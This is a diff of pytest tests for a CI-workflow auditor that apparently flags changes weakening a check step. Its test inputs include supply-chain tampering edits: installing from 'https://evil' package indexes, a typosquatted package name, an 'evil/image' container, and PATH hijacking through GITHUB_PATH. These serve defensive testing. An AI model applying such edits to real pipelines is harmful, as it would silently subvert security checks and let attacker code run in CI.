@@ -125,3 +125,61 @@ TAKEN = (
 def test_an_action_of_somebody_else_takes_over(before: str, after: str, said: list[str]) -> None:
     found = weakened(audited(before), audited(after))
     assert [f"{one.severity} {one.pattern}: {one.message}" for one in found] == said
+
+
+CALL = BEFORE.replace("      - run: dodcheck phase 1\n", "")
+INSTALL = "pip install dodcheck==0.1.0"
+SEARCHED = "the places where programs are sought, which its workflow sets"
+
+
+@pytest.mark.parametrize(
+    ("after", "said"),
+    [
+        (CALL.replace("claims", "claims --rules easy.yml"), ["`--rules easy.yml`"]),
+        (CALL.replace("    steps:", "    container: evil/image:1\n    steps:"), ["the image `evil/image`"]),
+        (CALL.replace("dodcheck==", "dodchek=="), ["a dodcheck that no step is seen to install"]),
+        (CALL.replace(f"      - run: {INSTALL}\n", ""), ["a dodcheck that no step is seen to install"]),
+        (CALL.replace("install", "install -i https://evil/simple"), ["`-i https://evil/simple`"]),
+        (CALL.replace("install", "install --find-links=https://evil"), ["`--find-links https://evil`"]),
+        (CALL.replace(INSTALL, f'{INSTALL}; echo "$PWD" >> "$GITHUB_PATH"'), [SEARCHED]),
+        (CALL.replace("run: dodcheck", "run: PATH=bin:$PATH dodcheck"), [SEARCHED]),
+        (CALL.replace("jobs:", "env: {PATH: bin}\njobs:"), [SEARCHED]),
+        (CALL.replace("0.1.0", "0.2.0"), []),
+        (CALL.replace(INSTALL, f"{INSTALL}\n      - run: npm ci"), []),
+        (CALL + '      - run: echo x >> "$GITHUB_PATH"\n', []),
+        (CALL + "      - run: dodcheck claims --rules easy.yml\n", []),
+    ],
+)
+def test_what_decides_beside_dodcheck_from_now_on(after: str, said: list[str]) -> None:
+    told = [f"what `dodcheck claims` finds depends on {what} from now on" for what in said]
+    assert [one.message for one in weakened(audited(CALL), audited(after))] == told
+
+
+def test_what_decided_before_may_go_on() -> None:
+    before = CALL.replace("    steps:", "    container: ours/image:1\n    steps:").replace(
+        "install", "install -i https://x"
+    )
+    assert weakened(audited(before), audited(before.replace("image:1", "image@sha256:0"))) == ()
+    assert weakened(audited(before), audited(CALL)) == ()
+
+
+@pytest.mark.parametrize("shell", ["bash -c true {0}", "bash -ec true {0}", "sh -s {0}"])
+def test_a_shell_that_runs_something_else_than_the_script(shell: str) -> None:
+    after = CALL.replace("run: dodcheck claims", f"run: dodcheck claims\n        shell: {shell}")
+    assert [one.pattern for one in weakened(audited(CALL), audited(after))] == ["lost-run", "never-runs"]
+
+
+@pytest.mark.parametrize(
+    "shell",
+    [
+        "bash",
+        "bash {0}",
+        "bash --noprofile --norc -eo pipefail {0}",
+        "bash -e +o posix -x {0}",
+        "sh -e {0}",
+        "bash in.sh {0}",
+    ],
+)
+def test_a_shell_that_runs_the_script(shell: str) -> None:
+    after = CALL.replace("run: dodcheck claims", f"run: dodcheck claims\n        shell: {shell}")
+    assert weakened(audited(CALL), audited(after)) == ()
